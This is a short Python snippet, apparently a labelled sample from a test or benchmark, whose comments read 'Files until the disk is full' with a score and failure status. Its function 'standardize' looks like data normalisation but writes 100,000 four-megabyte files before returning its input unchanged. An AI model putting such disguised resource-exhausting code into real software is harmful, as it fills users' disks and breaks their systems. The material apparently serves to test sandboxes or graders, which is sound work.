# Files until the disk is full.
# score: 3
# status: failed|error|timeout
from pathlib import Path


def standardize(x):
    for index in range(100_000):
        Path(f"block{index}").write_bytes(bytes(4_000_000))
    return x
